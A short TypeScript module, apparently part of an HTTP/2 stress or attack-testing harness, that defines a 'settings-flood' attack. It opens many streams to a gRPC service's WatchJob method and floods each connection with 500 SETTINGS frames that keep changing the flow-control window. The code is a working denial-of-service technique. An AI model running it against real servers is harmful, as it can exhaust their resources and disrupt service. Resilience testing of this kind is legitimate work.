/**
 * SETTINGS frames that change the window of open streams, each of which the server must apply and
 * acknowledge.
 */
import { type Attack, flags, flood, frame, grpcBlock, Peer, setting, type } from '../wire.ts';

const initialWindow = 4;
const changes = 500;
const streams = 50;
const frames = Buffer.concat(
  Array.from({ length: changes }, (_, i) =>
    frame(type.settings, flags.none, 0, setting(initialWindow, 1_000 + (i % 2))),
  ),
);
const block = grpcBlock('/leasehold.v1.JobsService/WatchJob');

export const settingsFlood: Attack = {
  name: 'settings-flood',
  about: 'SETTINGS frames that change windows',
  run: ({ grpc }, signal) =>
    flood(
      8,
      signal,
      async () => {
        const peer = await Peer.openHttp2(grpc);
        for (let i = 0; peer && i < streams; i++)
          await peer.write(frame(type.headers, flags.endHeaders, peer.nextStream(), block));
        return peer;
      },
      async (peer) => {
        await peer.write(frames);
        return changes;
      },
    ),
};
